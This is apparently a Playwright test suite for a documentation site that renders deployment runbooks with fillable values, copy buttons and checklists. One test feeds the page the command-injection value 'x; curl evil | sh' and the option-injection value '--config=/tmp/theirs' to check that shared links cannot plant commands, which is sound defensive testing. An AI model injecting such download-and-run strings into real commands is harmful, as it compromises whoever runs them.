import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { browseSite } from '../support/browse-site.ts';
import { asksBrowser } from '../support/browser.ts';
import { runsheet } from '../support/runsheet.ts';

const guide = `# Deploy the shop

## 1. Before

- [ ] The team knows of it
- [ ] The dump of last night is there

## 2. Deploy

\`\`\`bash
# Start it
docker compose up -d <app-name> --wait  # takes a minute
curl -fsS -H "Authorization: Bearer <api-token>" "https://shop.internal/$APP_NAME/health"
echo '$APP_NAME'
\`\`\`

\`\`\`console
$ docker compose ps
web   running
$ docker compose logs web
\`\`\`

| Table | ${Array.from({ length: 12 }, (_, at) => `column_${at}_of_many`).join(' | ')} |
| --- | ${'--- | '.repeat(12)}
| x | ${'y | '.repeat(12)}

## 3. When it is slow

\`\`\`bash
# Option A: more machines
docker compose scale web=3

# OR Option B: fewer workers
docker compose restart worker --with-a-very-long-option=${'x'.repeat(200)}
\`\`\`

## 4. بعد النشر

راجع السجلات ثم أخبر الفريق.

## Rollback

\`\`\`bash
docker compose down
\`\`\`
`;

const guidePage = 'guides/docs-shop/';
const boxes = '.step li > label > input';

describe.skipIf(!asksBrowser)('the page of a guide', () => {
  // Two guides of one name: nothing of one may appear in the other.
  const { folder, build, visit, address } = browseSite('.', {
    'docs/shop.md': guide,
    'other/shop.md': `${guide}\nThe other one.\n`,
  });

  const fill = async (page: Page): Promise<void> => {
    await page.locator('[id="panel:values"] summary').click();
    await page.locator('[name=APP_NAME]').fill('cart');
    await page.locator('[name=API_TOKEN]').fill('s3cret');
  };
  const firstCode = (page: Page) => page.locator('.step pre').first().textContent();

  test('puts values everywhere, keeps those that are no secrets, and shares them', async () => {
    await visit(guidePage, async ({ page }) => {
      await fill(page);
      const filled = `# Start it
docker compose up -d cart --wait  # takes a minute
curl -fsS -H "Authorization: Bearer s3cret" "https://shop.internal/cart/health"
echo '$APP_NAME'`;
      expect(await firstCode(page)).toBe(filled);
      expect(await page.locator('[id="panel:files"] .set').first().textContent()).toBe(' --set APP_NAME=cart');
      const stored = await page.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage })');
      expect(stored).toContain('cart');
      expect(stored).not.toContain('s3cret');
      const share = (await page.locator('.share').getAttribute('href')) ?? '';
      expect(share).toContain('APP_NAME=cart');
      expect(share).not.toContain('s3cret');
      await page.reload();
      expect(await firstCode(page)).toBe(filled.replace('s3cret', '<api-token>'));
      await page.goto(`${address()}guides/other-shop/`);
      expect(await firstCode(page)).toContain('up -d <app-name>');
      await visit(`${guidePage}#${share.split('#')[1]}`, async (other) => {
        expect(await firstCode(other.page)).toContain('up -d cart');
      });
    });
  });

  test('takes no commands from the address of somebody else', async () => {
    const values = new URLSearchParams({ APP_NAME: 'x; curl evil | sh', API_TOKEN: 'theirs' });
    await visit(`${guidePage}#values?${values}`, async ({ page }) => {
      expect(await firstCode(page)).toContain('up -d <app-name>');
      expect(await firstCode(page)).not.toContain('theirs');
    });
    const option = new URLSearchParams({ APP_NAME: '--config=/tmp/theirs' });
    await visit(`${guidePage}#values?${option}`, async ({ page }) => {
      expect(await firstCode(page)).toContain('up -d <app-name>');
    });
  });

  test('copies commands alone where one asks for them, and never a prompt', async () => {
    await visit(guidePage, async ({ page, context }) => {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      const read = () => page.evaluate('navigator.clipboard.readText()');
      await page.locator('.step .copy').nth(1).click();
      await expect.poll(read).toBe('docker compose ps\ndocker compose logs web');
      await page.locator('[name=bare]').check();
      await page.locator('.step .copy').first().click();
      await expect.poll(read).toMatch(/^docker compose up -d <app-name> --wait\ncurl [^\n]*\necho '\$APP_NAME'$/);
    });
  });

  test('shows one alternative of a block, and copies no other', async () => {
    await visit(guidePage, async ({ page, context }) => {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await page.locator('figure .choice span', { hasText: 'fewer workers' }).click();
      const block = page.locator('.block', { hasText: 'restart worker' });
      expect(await block.locator('pre :text("scale web"):visible').count()).toBe(0);
      await block.locator('.copy').click();
      const read = () => page.evaluate('navigator.clipboard.readText()');
      await expect.poll(read).toContain('restart worker');
      expect(await read()).not.toContain('scale web');
      await page.reload();
      expect(await block.locator('pre :text("restart worker"):visible').count()).toBe(1);
      expect(await block.locator('pre :text("scale web"):visible').count()).toBe(0);
    });
  });

  test('carries a record from one browser to another by way of the command line', async () => {
    await visit(guidePage, async ({ page }) => {
      for (const box of await page.locator(boxes).all()) await box.check();
      await page.locator('[id="panel:record"] summary').click();
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Save the record' }).click(),
      ]);
      await download.saveAs(join(folder, 'shop.record.json'));
      await page.goto(`${address()}guides/other-shop/`);
      expect(await page.locator(`${boxes}:checked`).count()).toBe(0);
    });
    const verify = ['checklist', 'verify', 'docs/shop.md', '--record', 'shop.record.json'];
    expect(await runsheet(verify, { cwd: folder })).toMatchObject({ code: 0, err: '' });
    await visit(guidePage, async ({ page }) => {
      await page.locator('[id="panel:record"] summary').click();
      await page.locator('[data-do=import]').setInputFiles(join(folder, 'shop.record.json'));
      await expect.poll(() => page.locator(`${boxes}:not(:checked)`).count()).toBe(0);
    });
  });

  test('keeps ticks when the guide changes, except of what has changed', async () => {
    const path = join(folder, 'docs/shop.md');
    await visit(guidePage, async ({ page, complaints }) => {
      for (const box of await page.locator(boxes).all()) await box.check();
      writeFileSync(
        path,
        guide.replace('- [ ] The team knows of it', '- [ ] Somebody new\n- [ ] Everybody knows of it'),
      );
      build();
      await page.reload();
      await page.locator('.stale li').first().waitFor();
      expect(await page.locator('.stale').textContent()).toContain('The team knows of it');
      expect(await page.locator(boxes).evaluateAll((all) => all.map((box) => box.matches(':checked')))).toEqual([
        false,
        false,
        true,
      ]);
      expect(complaints).toEqual([]);
    });
    writeFileSync(path, guide);
    build();
  });

  test('tells of a block what becomes of it, also without scripts', async () => {
    await visit(guidePage, async ({ page }) => {
      await page.locator('.step figcaption a').first().click();
      await expect.poll(() => page.locator('.step .why').textContent()).toMatch(/deploy\.sh.*Role run, lines 10–15/);
    });
    const use = async ({ page }: { page: Page }) => {
      const target = await page.locator('.step figcaption a').first().getAttribute('href');
      expect(await page.locator(`[id="${target?.slice(1)}"]`).textContent()).toMatch(/deploy\.sh/);
    };
    await visit(guidePage, use, { javaScriptEnabled: false });
  });

  test('leads to the rollback by a tap on a phone, and nothing is cut off or moves', async () => {
    const use = async ({ page }: { page: Page }) => {
      expect(await page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBe(0);
      const moved = `new Promise((done) => {
        let sum = 0;
        new PerformanceObserver((list) => { for (const entry of list.getEntries()) sum += entry.value; })
          .observe({ type: 'layout-shift', buffered: true });
        setTimeout(() => done(sum), 300);
      })`;
      expect(await page.evaluate(moved)).toBe(0);
      const small = await page
        .locator('.bar > :visible, .step .copy, .ticks label, .block figcaption > a')
        .evaluateAll((all) => all.filter((one) => one.getBoundingClientRect().height < 44).map((one) => one.outerHTML));
      expect(small).toEqual([]);
      await page.locator('.bar .back').tap();
      await expect
        .poll(() => page.locator('[id="panel:rollback"]').evaluate((one) => one.getBoundingClientRect().top))
        .toBeLessThan(100);
    };
    await visit(guidePage, use, { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });
  });

  test('reads each paragraph in the direction of its words, and code from left to right', async () => {
    await visit(guidePage, async ({ page }) => {
      const direction = (selector: string) =>
        page
          .locator(selector)
          .first()
          .evaluate((one) => one.ownerDocument.defaultView?.getComputedStyle(one).direction);
      expect(await direction('.step:has-text("راجع") > p')).toBe('rtl');
      expect(await direction('.step > h2')).toBe('ltr');
      expect(await direction('pre')).toBe('ltr');
    });
  });

  test('is a checklist on paper', async () => {
    await visit(guidePage, async ({ page }) => {
      await page.locator(boxes).first().check();
      await page.emulateMedia({ media: 'print' });
      expect(
        await page.locator('.top:visible, .bar:visible, .rail:visible, button:visible, .panel:visible').count(),
      ).toBe(0);
      const marks = await page
        .locator(boxes)
        .evaluateAll((all) =>
          all.map((box) => box.ownerDocument.defaultView?.getComputedStyle(box, '::before').content),
        );
      expect(marks).toEqual(['"✓"', 'none']);
      const cut = await page
        .locator('pre')
        .evaluateAll((all) => all.filter((pre) => pre.scrollWidth > pre.clientWidth));
      expect(cut).toEqual([]);
      expect((await page.pdf()).subarray(0, 5).toString()).toBe('%PDF-');
    });
  });

  test('leads nowhere that is not there', async () => {
    const start = new URL(address());
    const pages = new Map<string, string>();
    const broken: string[] = [];
    const waiting: [string, string][] = [[start.href, '']];
    for (let next = waiting.pop(); next !== undefined; next = waiting.pop()) {
      const [href, from] = next;
      const url = new URL(href);
      const place = url.origin + url.pathname;
      if (!pages.has(place)) {
        const answer = await fetch(place);
        const text = answer.headers.get('content-type')?.includes('html') ? await answer.text() : '';
        if (!answer.ok) broken.push(`${from} -> ${href}`);
        pages.set(place, text);
        for (const [, to = ''] of text.matchAll(/ (?:href|src|data-more)="([^"]*)"/g)) {
          const target = new URL(to.replaceAll('&amp;', '&'), place);
          if (target.origin === start.origin) waiting.push([target.href, place]);
        }
      }
      const id = decodeURIComponent(url.hash.slice(1));
      if (id !== '' && !pages.get(place)?.includes(`id="${id}"`)) broken.push(`${from} -> ${href}`);
      if (!url.pathname.startsWith('/docs/')) broken.push(`${from} -> ${href}`);
    }
    expect(broken).toEqual([]);
    expect(pages.size).toBeGreaterThan(100);
  });
});
